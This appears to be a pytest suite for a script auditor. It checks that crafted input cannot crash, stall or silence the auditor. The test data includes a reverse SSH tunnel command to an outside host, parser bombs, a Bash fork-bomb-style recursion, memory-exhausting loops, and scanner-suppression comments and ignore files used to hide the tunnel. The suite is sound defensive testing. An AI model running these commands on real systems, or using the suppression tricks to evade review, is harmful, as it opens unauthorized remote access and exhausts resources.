"""Text made to crash, stall or silence the auditor: a verdict with a gap, in bounded time, and the next audit works."""

from __future__ import annotations

import os
import signal
import time
from pathlib import Path

import pytest

from auditor.intake import Skipped
from auditor.model.verdict import Verdict
from auditor.pipeline import Auditor

TUNNEL = "ssh -N -R 2222:localhost:22 ops@203.0.113.5"
PYTHON = {
    "parentheses": "x = " + "(" * 2000 + "1" + ")" * 2000,
    "minus signs": "x = " + "-" * 10_000 + "1",
    "attribute chain": "x = a" + ".a" * 5_000,
    "dictionaries": "x = " + "{1: " * 1_500 + "1" + "}" * 1_500,
    "blocks": "".join(" " * depth + "if x:\n" for depth in range(1_000)) + " " * 1_000 + "pass\n",
    "one long line": "x = '" + "a" * 5_000_000 + "'",
    "calls": "f(" * 3_000 + ")" * 3_000,
    "subscripts": "x" + "[0]" * 20_000,
    "lambdas": "lambda: " * 3_000 + "1",
    "broken": "def f(:\n",
    "NUL bytes": "import os\0\nos.system('ls')\n",
    "endless loop": "n = 0\nwhile True:\n    n += 1\n    s = str(n) * n\n",
    "recursion": "def f(x):\n    return f(x + 1) + f(x + 2)\nf(1)\n",
    "doubling": "s = 'a'\nfor _ in range(200):\n    s += s\n",
    "power": "x = 9 ** 9 ** 9 ** 9\n",
}
BASH = {
    "substitutions": "echo " + "$(" * 10_000 + ")" * 10_000,
    "braces": "{ " * 5_000 + "}; " * 5_000,
    "brace expansion": "echo " + "{a,b}" * 40,
    "one long line": "echo " + "a" * 5_000_000,
    "quotes": "echo '" + "a\n" * 1_000,
    "endless loop": "x=a; while true; do x=$x$x; done",
    "recursion": "f() { f; f; }; f",
    "patterns": "x=" + "a" * 3_000 + '; echo "${x//+(+(a))b/c}"',
    "broken": "if true; then (",
}
# Read whole: neither costs anything that a limit stands for.
WHOLE = {"400 additions": "x = 1" + " + 1" * 400, "long list": "x = [" + "1, " * 5_000 + "]"}


@pytest.mark.slow
@pytest.mark.parametrize("name", [*(f"python {name}" for name in PYTHON), *(f"bash {name}" for name in BASH)])
def test_hostile_text_ends_in_a_verdict_in_bounded_time(warm: Auditor, name: str) -> None:
    """Nothing hostile crashes the auditor or takes longer than its limits; what was not read is a gap."""
    language, _, kind = name.partition(" ")
    text = (PYTHON if language == "python" else BASH)[kind]
    begin = time.monotonic()
    report = warm.audit(text, language=language)
    assert time.monotonic() - begin < 25
    assert report.verdict is not Verdict.DENY
    if report.verdict is Verdict.ALLOW:
        assert kind in {"endless loop", "recursion", "doubling", "power", "brace expansion", "braces", "patterns"}, kind
    assert warm.audit(TUNNEL, language="bash").verdict is Verdict.DENY


@pytest.mark.parametrize("name", WHOLE)
def test_large_but_plain_text_is_read_whole(warm: Auditor, name: str) -> None:
    """A long expression is no attack."""
    report = warm.audit(f"{WHOLE[name]}\nimport os\nos.system('{TUNNEL}')\n", language="python")
    assert report.verdict is Verdict.DENY


@pytest.mark.parametrize("text", [PYTHON["parentheses"], PYTHON["minus signs"], PYTHON["attribute chain"]])
def test_hostile_text_does_not_hide_what_stands_beside_it(warm: Auditor, text: str) -> None:
    """A parser bomb leaves a gap, so that the script is never allowed."""
    report = warm.audit(f"import os\nos.system('{TUNNEL}')\n{text}\n", language="python")
    assert report.gaps
    assert report.verdict is not Verdict.ALLOW


def test_a_file_of_nuls_is_a_gap(warm: Auditor, tmp_path: Path) -> None:
    """What is no text was not examined, and says so."""
    path = tmp_path / "nuls.py"
    path.write_bytes(b"\0" * 50_000)
    (report,) = warm.audit_paths([str(path)])
    assert not isinstance(report, Skipped)
    assert report.gaps
    assert report.verdict is not Verdict.ALLOW


def test_a_file_of_50_megabytes_is_a_gap_and_is_hashed(warm: Auditor, tmp_path: Path) -> None:
    """Size alone ends in a gap, with the file's digest."""
    path = tmp_path / "large.sh"
    with path.open("wb") as file:
        file.write(b"echo hi\n" * 6_553_600)
    (report,) = warm.audit_paths([str(path)])
    assert not isinstance(report, Skipped)
    assert [gap.why.value for gap in report.gaps] == ["too large"]
    assert report.verdict is not Verdict.ALLOW


def test_the_tree_does_not_configure_its_audit(warm: Auditor, tmp_path: Path) -> None:
    """Suppressions, ignore files, directory names and settings in the audited tree change nothing."""
    folder = tmp_path / "tests" / "vendor"
    folder.mkdir(parents=True)
    (folder / "run.py").write_text(f"# nosec\nimport os  # nosemgrep\nos.system('{TUNNEL}')  # nosec # nosemgrep\n")
    (tmp_path / ".semgrepignore").write_text("*\n")
    (tmp_path / "pyproject.toml").write_text(
        "[tool.bandit]\nexclude_dirs = ['tests']\n[tool.auditor]\nmode = 'observe'\n"
    )
    (tmp_path / "policy.yaml").write_text("version: 1\nmode: observe\n")
    (tmp_path / ".bandit").write_text("[bandit]\nskips: B102\n")
    reports = [item for item in warm.audit_paths([str(tmp_path)]) if not isinstance(item, Skipped)]
    assert {Path(report.script.path).name: report.verdict for report in reports}["run.py"] is Verdict.DENY


def test_the_engine_killed_between_two_audits_is_replaced() -> None:
    """A Semgrep that dies between audits costs nothing."""
    with Auditor() as auditor:
        assert auditor.audit(TUNNEL, language="bash").verdict is Verdict.DENY
        pid = auditor.semgrep_pid
        assert pid is not None
        os.kill(pid, signal.SIGKILL)
        assert auditor.audit(TUNNEL.replace("2222", "2223"), language="bash").verdict is Verdict.DENY
